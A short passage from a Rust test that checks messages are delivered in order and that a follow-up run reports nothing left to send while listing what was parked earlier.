        .filter(|id| got.contains(id))
        .collect();
    assert_eq!(received, order, "delivered in order");

    // The next run owes nothing and says what is parked.
    let r = run().ok();
    assert!(
        r.stdout.contains("0 to send") && r.stdout.contains("parked earlier"),
        "{}",
        r.stdout
    );
}
